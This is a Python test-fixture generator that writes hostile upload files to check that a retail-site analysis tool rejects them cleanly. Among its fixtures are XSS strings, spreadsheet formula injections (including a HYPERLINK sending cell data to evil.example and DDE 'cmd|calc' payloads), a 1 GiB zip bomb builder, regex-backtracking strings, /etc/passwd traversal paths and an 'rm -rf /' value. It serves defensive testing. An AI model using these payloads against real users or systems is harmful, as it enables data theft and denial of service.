"""Generate the hostile input corpus into tests/hostile/generated/ (not committed).

Every file is something a real user might upload by mistake or an attacker on purpose. Each CLI
command and upload path must answer each with exit code 2 / an error box naming the file (and row
and column where there is one), or accept it and account for every row; never a traceback or a hang.

    python tests/hostile/make_corpus.py [OUTDIR] [--big]

``--big`` also writes the 200 MB CSV (skipped by default to keep the suite quick; the size limit
check is tested with it in tests/test_hostile.py, which asks for it). Generation is cached: a
file whose content is unchanged is not rewritten, the big files are written once and streamed.
"""

from __future__ import annotations

import io
import json
import sqlite3
import sys
import tempfile
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEADER = "respondent_id,address,visits_per_month,spend_per_visit,lat,lon\n"
XSS = '<img src=x onerror=alert(1)><script>alert("x")</script>'
XSS_NAME = "<img src=x onerror=alert(1)>.csv"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
BIG_NAME = "huge_200mb.csv"
BIG_BYTES = 200 * 1024 * 1024
# Files whose content is produced by a function at write time (large or slow to build).
_WRITTEN_LATER = {"zip_bomb.xlsx", BIG_NAME}


def _good_rows(n: int = 3) -> str:
    rows = [f"R{i},Mannerheimintie {i + 1},4,25.5,60.17,24.94\n" for i in range(n)]
    return "".join(rows)


def _xlsx_bytes(rows: list[list[object]], *, sheets: int = 1) -> bytes:
    import xlsxwriter

    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(
        buf, {"in_memory": True, "strings_to_formulas": False, "nan_inf_to_errors": True}
    )
    for k in range(sheets):
        ws = wb.add_worksheet(f"Sheet{k + 1}")
        if k < sheets - 1:
            continue  # leading empty sheets: the data is on the last one
        for r, row in enumerate(rows):
            for c, v in enumerate(row):
                ws.write(r, c, v)
    wb.close()
    return buf.getvalue()


def _polygon(coords: list[list[float]], props: dict[str, object]) -> dict[str, object]:
    return {
        "type": "Feature",
        "properties": props,
        "geometry": {"type": "Polygon", "coordinates": [coords]},
    }


def _collection(features: list[dict[str, object]], crs: str | None = None) -> bytes:
    doc: dict[str, object] = {"type": "FeatureCollection", "features": features}
    if crs:
        doc["crs"] = {"type": "name", "properties": {"name": crs}}
    return json.dumps(doc).encode()


_SQUARE = [[24.94, 60.17], [24.945, 60.17], [24.945, 60.173], [24.94, 60.173], [24.94, 60.17]]
_BOWTIE = [[24.94, 60.17], [24.95, 60.18], [24.95, 60.17], [24.94, 60.18], [24.94, 60.17]]


def _tabular(files: dict[str, bytes]) -> None:
    good = HEADER + _good_rows()
    files["empty.csv"] = b""
    files["header_only.csv"] = HEADER.encode()
    files["whitespace_only.csv"] = b"   \n\n \t \n"
    files["utf16_bom.csv"] = good.encode("utf-16")
    files["utf32_bom.csv"] = good.encode("utf-32")
    files["utf8_bom.csv"] = b"\xef\xbb\xbf" + good.encode()
    files["gb18030_chinese.csv"] = (
        "编号,地址,来店频率,消费金额\nR1,北京市朝阳区建国路88号,4,120\nR2,上海市浦东新区世纪大道100号,2,80\n"
    ).encode("gb18030")
    files["big5_chinese.csv"] = "編號,地址,來店頻率\nR1,台北市信義路五段7號,4\n".encode("big5")
    files["shift_jis.csv"] = "番号,住所\nR1,東京都千代田区丸の内1-1\n".encode("shift_jis")
    files["latin1.csv"] = (HEADER + "R1,Töölönkatu 5,4,25.5,60.17,24.94\n").encode("latin-1")
    files["mixed_encoding.csv"] = (
        HEADER.encode()
        + "R1,Töölönkatu 5,4,25,60.17,24.94\n".encode()
        + "R2,Töölönkatu 7,4,25,60.17,24.94\n".encode("latin-1")
    )
    files["nul_bytes.csv"] = (HEADER + "R1,Mann\x00erheimintie 5,4,25,60.17,24.94\n").encode()
    files["binary_garbage.csv"] = bytes(range(256)) * 64
    files["duplicated_headers.csv"] = (
        b"respondent_id,address,address,visits_per_month\nR1,A 1,B 2,4\n"
    )
    files["million_columns.csv"] = (",".join(f"c{i}" for i in range(1_000_000)) + "\n").encode()
    files["unclosed_quote.csv"] = (HEADER + 'R1,"Mannerheimintie 5,4,25\n' + "x" * 200_000).encode()
    files["only_delimiters.csv"] = b",,,,\n,,,,\n;;;;\n"
    files["bidi_zero_width.csv"] = (
        HEADER + "R1,\u202eMannerheimintie\u200b 5\u2066,4,25,60.17,24.94\n"
    ).encode()
    files["thousands_separators.csv"] = (
        HEADER
        + 'R1,Mannerheimintie 5,"1,234",25,60.17,24.94\nR2,Mannerheimintie 7,４,２５.５,60.17,24.94\n'
    ).encode()
    files["latlon_swapped.csv"] = (
        HEADER + "R1,,4,25,24.94,60.17\nR2,,3,20,24.95,60.168\n"
    ).encode()
    files["latlon_out_of_range.csv"] = (
        HEADER + "R1,,4,25,95.0,24.94\nR2,,3,20,60.1,200.0\n"
    ).encode()
    files["nan_inf.csv"] = (
        HEADER + "R1,,nan,inf,NaN,-inf\nR2,Mannerheimintie 5,-inf,NaN,,\n"
    ).encode()
    files["huge_numbers.csv"] = (
        HEADER
        + "R1,Mannerheimintie 5,1e308,1e400,60.17,24.94\nR2,Mannerheimintie 7,-1e308,-5,1e-320,24.94\n"
    ).encode()
    files["long_cells.csv"] = (HEADER + f"R1,{'A' * 10_000},4,25,60.17,24.94\n").encode()
    # Long runs that make naive regular expressions backtrack (quadratic or worse): in a header
    # (found by the atheris harness: a bracket run hung header detection) and in every value.
    files["regex_bomb_header.csv"] = b"respondent_id,address," + b"[" * 100_000 + b"\nR1,A 1,x\n"
    bombs = ["(" * 10_000, "1-" * 5_000, "1 " * 5_000, "a," * 5_000, "[" * 5_000 + "x",
             "9" * 10_000, "-" * 10_000, "１" * 5_000]  # fmt: skip
    files["regex_bomb_cells.csv"] = (
        HEADER + "".join(f'B{i},"{b}","{b}","{b}","{b}","{b}"\n' for i, b in enumerate(bombs))
    ).encode()
    files["xss_everywhere.csv"] = (
        HEADER + f'"{XSS}","{XSS}",4,25,60.17,24.94\n'.replace('"x"', '""x""')
    ).encode()
    files[XSS_NAME] = good.encode()
    files["formula_cells.csv"] = (
        HEADER
        + "".join(
            f'F{i},"{f.replace(chr(34), chr(34) * 2)}",4,25,60.17,24.94\n'
            for i, f in enumerate(FORMULAS)
        )
    ).encode()
    files["duplicate_ids.csv"] = (HEADER + "R1,Mannerheimintie 5,4,25,60.17,24.94\n" * 3).encode()
    # Files shaped like the other uploads (competitors, CRM), each with one hostile twist.
    comp = "store_id,name,brand,format,lat,lon,floor_area_m2\n"
    files["competitors_xss.csv"] = (
        comp
        + f'X1,"{XSS.replace(chr(34), chr(34) * 2)}","{FORMULAS[0].replace(chr(34), chr(34) * 2)}",supermarket,60.1700,24.9400,1200\n'
        + "X2,Alepa,+cmd,convenience,60.1690,24.9420,300\n"
    ).encode()
    files["competitors_nan_area.csv"] = (
        comp + "X1,A,A,supermarket,60.17,24.94,nan\nX2,B,B,supermarket,60.171,24.941,inf\n"
    ).encode()
    files["crm_bad_dates.csv"] = (
        b"customer_id,date,amount,store_id\n"
        b"C1,0001-01-01,10,S01\nC2,9999-12-31,10,S01\nC3,2024-02-30,10,S01\n"
        b"C4,99999999999,1e400,S01\nC5,2024-01-05,-inf,S01\n"
    )
    files["crm_customers_hostile.csv"] = (
        "customer_id,name,email,first_purchase,last_purchase,orders,revenue,lat,lon\n"
        f'C1,"{XSS.replace(chr(34), chr(34) * 2)}",=cmd|calc,2023-01-01,2024-01-01,3,nan,95,200\n'
        "C2,../../etc/passwd,a@b,2023-01-01,2024-01-01,0.5,-inf,60.17,24.94\n"
        "C3,x,x,1900-01-01,2262-04-12,1e400,1e308,inf,nan\n"
    ).encode()


def _workbooks(files: dict[str, bytes]) -> None:
    files["truncated.xlsx"] = _xlsx_bytes([["respondent_id", "address"], ["R1", "A 1"]])[:700]
    files["not_really.xlsx"] = b"this is a text file, not a spreadsheet\n"
    files["formula.xlsx"] = _xlsx_bytes(
        [["respondent_id", "address", "visits_per_month"], ["R1", FORMULAS[0], 4], ["R2", XSS, 2]]
    )
    files["zip_bomb.xlsx"] = b""  # written by write_corpus once (1 GiB inflated), then cached
    files["empty_sheets.xlsx"] = _xlsx_bytes([], sheets=3)
    files["data_on_third_sheet.xlsx"] = _xlsx_bytes(
        [["respondent_id", "address", "lat", "lon"], ["R1", "Mannerheimintie 5", 60.17, 24.94]],
        sheets=3,
    )
    files["nan_inf_cells.xlsx"] = _xlsx_bytes(
        [["respondent_id", "address", "lat", "lon"], ["R1", "A 1", float("nan"), float("inf")]]
    )
    files["wide.xlsx"] = _xlsx_bytes([list(range(10_001)), [1] * 10_001])  # > 10,000 columns
    files["old_excel.xls"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:  # a zip that is not a workbook at all
        z.writestr("readme.txt", "hello")
    files["zip_not_workbook.xlsx"] = buf.getvalue()
    good = io.BytesIO(_xlsx_bytes([["respondent_id", "address"], ["R1", "A 1"]]))
    macro = io.BytesIO()
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(macro, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Sub AutoOpen() Shell calc End Sub")
    files["macro.xlsm"] = macro.getvalue()


def _geo(files: dict[str, bytes]) -> None:
    files["invalid_polygons.geojson"] = _collection(
        [
            _polygon(_BOWTIE, {"store_id": "S1", "tier": 1}),
            {
                "type": "Feature",
                "properties": {"store_id": "S1", "tier": 2},
                "geometry": {"type": "Polygon", "coordinates": [[[24.94, 60.17]]]},
            },
        ]
    )
    files["wrong_crs.geojson"] = _collection(
        [
            _polygon(
                [[385000, 6672000], [386000, 6672000], [386000, 6673000], [385000, 6672000]],
                {"store_id": "S1", "tier": 1, "households": 100},
            )
        ],
        crs="urn:ogc:def:crs:EPSG::32635",
    )
    files["projected_no_crs.geojson"] = _collection(
        [
            _polygon(
                [[385000, 6672000], [386000, 6672000], [386000, 6673000], [385000, 6672000]],
                {"store_id": "S1", "tier": 1, "households": 100},
            )
        ]
    )
    files["latlon_swapped.geojson"] = _collection(
        [_polygon([[y, x] for x, y in _SQUARE], {"store_id": "S1", "tier": 1, "households": 9})]
    )
    files["bowtie_zones.geojson"] = _collection(
        [
            _polygon(_BOWTIE, {"zone_id": "Z1", "households": 120, "store_id": "S1", "tier": 1}),
            _polygon(_SQUARE, {"zone_id": "Z2", "households": 80, "store_id": "S1", "tier": 2}),
        ]
    )
    hole = [
        [24.941, 60.171],
        [24.944, 60.171],
        [24.944, 60.172],
        [24.941, 60.172],
        [24.941, 60.171],
    ]
    ring_self_touch = [
        [24.94, 60.17], [24.95, 60.17], [24.95, 60.18], [24.945, 60.17], [24.94, 60.18],
        [24.94, 60.17],
    ]  # fmt: skip
    files["holes_and_rings.geojson"] = _collection(
        [
            {
                "type": "Feature",
                "properties": {"zone_id": "Z1", "households": 50, "store_id": "S1", "tier": 1},
                "geometry": {"type": "Polygon", "coordinates": [_SQUARE, hole]},
            },
            _polygon(
                ring_self_touch, {"zone_id": "Z2", "households": 70, "store_id": "S1", "tier": 2}
            ),
            {  # a hole outside its shell
                "type": "Feature",
                "properties": {"zone_id": "Z3", "households": 10, "store_id": "S1", "tier": 3},
                "geometry": {
                    "type": "Polygon",
                    "coordinates": [
                        _SQUARE,
                        [[25.0, 61.0], [25.1, 61.0], [25.1, 61.1], [25.0, 61.0]],
                    ],
                },
            },
        ]
    )
    files["points_not_polygons.geojson"] = _collection(
        [
            {
                "type": "Feature",
                "properties": {"store_id": "S1", "tier": 1, "households": 5},
                "geometry": {"type": "Point", "coordinates": [24.94, 60.17]},
            }
        ]
    )
    files["no_features.geojson"] = _collection([])
    files["null_geometry.geojson"] = json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {"type": "Feature", "properties": {"store_id": "S1", "tier": 1}, "geometry": None}
            ],
        }
    ).encode()
    files["nan_coordinates.geojson"] = (
        b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":'
        b'{"store_id":"S1","tier":1,"households":3},"geometry":{"type":"Polygon","coordinates":'
        b"[[[NaN,60.17],[24.95,Infinity],[24.95,60.17],[NaN,60.17]]]}}]}"
    )
    files["xss_properties.geojson"] = _collection(
        [_polygon(_SQUARE, {"store_id": XSS, "tier": 1, "households": FORMULAS[0], "name": XSS})]
    )
    files["deep_nesting.geojson"] = b'{"type":"FeatureCollection","features":' + b"[" * 100_000
    files["not_json.geojson"] = b"{this is not json"
    files["garbage.osm.pbf"] = b"\x00\x00\x00\x0dOSMHeader" + bytes(range(256)) * 16
    files["empty.osm.pbf"] = b""


def _pipelines(files: dict[str, bytes]) -> None:
    files["scenario_bad.toml"] = b'[site]\nfloor_area_m2 = "lots"\nunknown_key = 1\n'
    files["scenario_not_toml.toml"] = b"=== not toml ===\n\x00\x01"
    files["scenario_inf_nan.toml"] = (
        b"[costs]\nland_cost_per_m2 = inf\nconstruction_cost_per_m2 = nan\n"
        b"[rents]\nbase_rent_per_m2_month = 1e308\n"
    )
    files["scenario_deep_nesting.toml"] = b"x = " + b"[" * 50_000 + b"]" * 50_000 + b"\n"
    files["scenario_wrong_types.toml"] = (
        b'name = 5\n[site]\nfloors = "all of them"\n[timing]\nhold_years = -3\n'
    )
    files["scenario_comparables_traversal.toml"] = (
        b'[market]\ncomparables_file = "../../../../../../etc/passwd"\n'
    )
    files["scenario_comparables_device.toml"] = b'[market]\ncomparables_file = "/dev/zero"\n'
    examples = "../../../data/examples"
    for name, inputs in {
        "pipeline_zip_bomb.toml": 'survey = "zip_bomb.xlsx"',
        "pipeline_device.toml": 'survey = "/dev/zero"',
        "pipeline_regex_bomb.toml": 'survey = "regex_bomb_header.csv"',
        "pipeline_traversal.toml": 'stores = "../../../../../../../../etc/passwd"',
        "pipeline_xss_stores.toml": 'stores = "competitors_xss.csv"\nzones = "bowtie_zones.geojson"',
    }.items():
        files[name] = (
            f'[run]\nname = "hostile"\noutput = "../../../../../../tmp/x"\n'
            f'[region]\nname = "helsinki-center"\n[inputs]\n{inputs}\n'
            + ("" if "stores" in inputs else f'stores = "{examples}/competitors.csv"\n')
        ).encode()
    files["pipeline_unknown_table.toml"] = b'[evil]\ncmd = "rm -rf /"\n[run]\noutput = 5\n'
    files["scenario_xss.toml"] = (
        f'name = "{XSS.replace(chr(34), "")}"\n[site]\nname = "{FORMULAS[1]}"\n'
    ).encode()


def _sqlite_bytes(build: object) -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "x.gpkg"
        build(path)  # type: ignore[operator]
        return path.read_bytes()


def _gpkg_layer(path: Path) -> None:
    import geopandas as gpd
    from shapely.geometry import Point

    frame = gpd.GeoDataFrame({"name": [XSS]}, geometry=[Point(24.94, 60.17)], crs="EPSG:4326")
    frame.to_file(path, layer="shops", driver="GPKG", engine="pyogrio")


def _gpkg_project(path: Path, *, meta: dict[str, str], settings: dict[str, str]) -> None:
    _gpkg_layer(path)
    with sqlite3.connect(path) as con:
        con.execute("CREATE TABLE project_meta (key TEXT, value TEXT)")
        con.executemany("INSERT INTO project_meta VALUES (?, ?)", list(meta.items()))
        con.execute("CREATE TABLE settings (key TEXT, value TEXT)")
        con.executemany("INSERT INTO settings VALUES (?, ?)", list(settings.items()))
    con.close()


def _projects(files: dict[str, bytes]) -> None:
    files["path_like_name.gpkg"] = b"not a geopackage"
    files["sqlite_not_gpkg.gpkg"] = _sqlite_bytes(
        lambda p: sqlite3.connect(p).execute("CREATE TABLE t (x)").connection.commit()
    )
    files["gpkg_not_project.gpkg"] = _sqlite_bytes(_gpkg_layer)
    files["project_future_schema.gpkg"] = _sqlite_bytes(
        lambda p: _gpkg_project(p, meta={"schema_version": "99", "name": XSS}, settings={})
    )
    files["project_bad_schema.gpkg"] = _sqlite_bytes(
        lambda p: _gpkg_project(p, meta={"schema_version": "two", "name": "x"}, settings={})
    )
    files["project_bad_settings.gpkg"] = _sqlite_bytes(
        lambda p: _gpkg_project(
            p, meta={"schema_version": "2", "name": "x"}, settings={"currency": "{not json"}
        )
    )
    whole = files["gpkg_not_project.gpkg"]
    files["truncated.gpkg"] = whole[: len(whole) // 3]


def corpus(big: bool = False) -> dict[str, bytes]:
    """Return file name -> content for every hostile input.

    Parameters
    ----------
    big : bool
        Also list the 200 MB CSV (its content is streamed by :func:`write_corpus`).

    Returns
    -------
    dict
        File name -> bytes (empty for files written later: the zip bomb and the big CSV).
    """
    files: dict[str, bytes] = {}
    _tabular(files)
    _workbooks(files)
    _geo(files)
    _pipelines(files)
    _projects(files)
    if big:
        files[BIG_NAME] = b""  # written in streaming by write_corpus
    return files


def _zip_bomb() -> bytes:
    """A small .xlsx-looking zip whose one member inflates to 1 GiB of zeros."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(1024):
                member.write(chunk)
    return buf.getvalue()


def _write_big(path: Path) -> None:
    """Stream the 200 MB CSV (one 2.6 MB block repeated), in about a second."""
    row = b"R1,Mannerheimintie 5,4,25.5,60.17,24.94\n"
    block = row * (1 << 16)
    tmp = path.with_suffix(".partial")
    with tmp.open("wb") as f:
        f.write(HEADER.encode())
        written = len(HEADER)
        while written < BIG_BYTES:
            f.write(block)
            written += len(block)
    tmp.replace(path)


def write_corpus(out: Path, *, big: bool = False) -> list[Path]:
    """Write the corpus into ``out`` and return the paths (cached: unchanged files not rewritten).

    Parameters
    ----------
    out : pathlib.Path
        The folder (created if missing).
    big : bool
        Also write the 200 MB CSV.

    Returns
    -------
    list of pathlib.Path
        One path per hostile file.
    """
    out.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, content in corpus(big).items():
        path = out / name
        if name == BIG_NAME:
            if not path.exists() or path.stat().st_size < BIG_BYTES:
                _write_big(path)
        elif name == "zip_bomb.xlsx":
            if not path.exists():
                path.write_bytes(_zip_bomb())
        elif name.endswith(".gpkg") and path.exists() and name not in _WRITTEN_LATER:
            pass  # SQLite files differ byte-wise between builds; keep the first one
        elif not path.exists() or path.read_bytes() != content:
            path.write_bytes(content)
        paths.append(path)
    return paths


if __name__ == "__main__":
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    target = Path(args[0]) if args else HERE / "generated"
    written = write_corpus(target, big="--big" in sys.argv)
    print(f"wrote {len(written)} hostile files into {target}")
